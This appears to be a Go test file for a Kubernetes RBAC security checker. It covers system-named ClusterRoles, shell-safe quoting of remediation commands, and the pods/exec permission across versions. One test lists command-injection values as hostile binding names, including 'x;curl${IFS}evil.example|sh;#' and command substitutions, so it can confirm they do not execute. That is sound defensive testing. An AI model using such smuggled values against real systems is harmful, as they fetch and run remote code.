package rbac

import (
	"encoding/json"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"kubeops.io/kubeops/internal/inspect/check"
	"kubeops.io/kubeops/internal/inspect/facts"
	"kubeops.io/kubeops/internal/testkit"
	"kubeops.io/kubeops/internal/testkit/checktest"
)

func TestARoleIsNotHiddenByANameOfKubernetes(t *testing.T) {
	role := func(name, labels string) string {
		return checktest.Document(rbacAPI, "ClusterRole", "name: '"+name+"'"+labels, "rules: ["+ruleOf(`"*"`, "*", `"*"`)+"]") +
			checktest.Document(rbacAPI, "ClusterRoleBinding", "name: give",
				"roleRef: {kind: ClusterRole, name: '"+name+"'}\nsubjects: ["+runner+"]")
	}
	for name, tc := range map[string]struct {
		documents string
		found     bool
	}{
		"made by hand":                  {role("system:tool", ""), true},
		"made by hand, like controller": {role("system:controller:tool", ""), true},
		"made by the API server":        {role("system:tool", ", labels: {kubernetes.io/bootstrapping: rbac-defaults}"), false},
		"made by a distribution":        {role("system:openshift:tool", ""), false},
	} {
		t.Run(name, func(t *testing.T) {
			got := checktest.Text(t, Checks(), "rbac-wildcard-resources", tc.documents)
			if strings.HasPrefix(got, "high ClusterRole/system:") != tc.found {
				t.Errorf("got %q", got)
			}
		})
	}
}

// TestANameOfABindingIsNoCommand pastes the remedy of a binding into a shell: names of bindings may contain all but / and %.
func TestANameOfABindingIsNoCommand(t *testing.T) {
	for _, name := range []string{"x;curl${IFS}evil.example|sh;#", "$(>pwned)", "`>pwned`", "a b", "it's", "x\n::error::y", "-A", "\u202ex"} {
		quoted, err := json.Marshal(name)
		if err != nil {
			t.Fatal(err)
		}
		documents := checktest.Document(rbacAPI, "RoleBinding", "namespace: sec-a, name: "+string(quoted),
			"roleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: ["+authenticated+"]")
		builder := facts.NewBuilder("test", testkit.Now())
		for _, object := range testkit.Objects(t, documents) {
			builder.Add(facts.Reduce(object))
		}
		for _, kind := range testkit.Kinds() {
			builder.Covered(kind, "")
		}
		selected, err := check.Select(Checks(), []string{"rbac-cluster-admin-bound"}, nil)
		if err != nil {
			t.Fatal(err)
		}
		found, _, _ := check.Run(builder.Graph(), selected, check.DefaultParams())
		if len(found) != 1 {
			t.Fatalf("%q: %d findings, want 1", name, len(found))
		}
		code := strings.Split(string(found[0].Remediation), "`")
		shell := exec.CommandContext(t.Context(), "bash", "-c", "kubectl() { printf '%s\\0' \"$@\"; }; "+code[len(code)-2])
		shell.Dir = t.TempDir()
		out, err := shell.Output()
		words := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if err != nil || words[len(words)-1] != name || !slices.Contains(words, "delete") || !slices.Contains(words, "rolebinding") {
			t.Errorf("%q: bash reads %s as %q: %v", name, code[len(code)-2], words, err)
		}
		if files, err := os.ReadDir(shell.Dir); err != nil || len(files) > 0 {
			t.Errorf("%q: the command ran and left %v, %v", name, files, err)
		}
	}
}

func TestGetIsEnoughToRunCommandsBefore135(t *testing.T) {
	documents := clusterRole(ruleOf("get", "", "pods/exec")) + toolBinding(runner)
	for version, want := range map[string]int{"v1.34.3": 1, "v1.35.0": 0, "v1.37.2": 0, "": 0, "nonsense": 0} {
		builder := facts.NewBuilder("test", testkit.Now())
		builder.SetVersion(version)
		for _, object := range testkit.Objects(t, documents) {
			builder.Add(facts.Reduce(object))
		}
		for _, kind := range testkit.Kinds() {
			builder.Covered(kind, "")
		}
		selected, err := check.Select(Checks(), []string{"rbac-pod-exec"}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if found, _, _ := check.Run(builder.Graph(), selected, check.DefaultParams()); len(found) != want {
			t.Errorf("%s: %d findings, want %d", version, len(found), want)
		}
	}
}
